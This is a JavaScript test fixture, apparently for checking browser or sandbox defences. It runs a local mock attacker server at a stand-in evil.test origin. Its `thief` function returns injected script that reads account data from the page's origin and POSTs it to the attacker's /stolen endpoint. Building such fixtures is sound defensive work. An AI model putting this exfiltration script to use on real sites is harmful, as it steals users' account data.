// The attacker's web server: serves pages for the browser, and receives what they steal.

import { createServer } from "node:http";

/** Starts the server. `stolen` collects what pages send to it. */
export async function startAttacker() {
  const stolen = [];
  const pages = new Map();
  const server = createServer((request, response) => {
    let body = "";
    request.on("data", (chunk) => { body += chunk; });
    request.on("end", () => {
      response.setHeader("Access-Control-Allow-Origin", "*");
      if (request.url === "/stolen") stolen.push(body);
      response.setHeader("Content-Type", "text/html; charset=utf-8");
      response.end(pages.get(request.url) ?? "<title>attacker</title>");
    });
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  const origin = `http://evil.test:${server.address().port}`;
  return { origin, pages, stolen, stop: () => server.close() };
}

/** Returns a script that reads the accounts of its origin, and sends them to the attacker. The script
 * blocks: once the page has loaded, it has run or will never run. */
export function thief(attacker) {
  return `
    const read = new XMLHttpRequest();
    read.open("GET", "/_mock/accounts", false);
    try { read.send(); } catch (error) { }
    const send = new XMLHttpRequest();
    send.open("POST", "${attacker.origin}/stolen", false);
    send.send("ran: " + read.responseText);`;
}
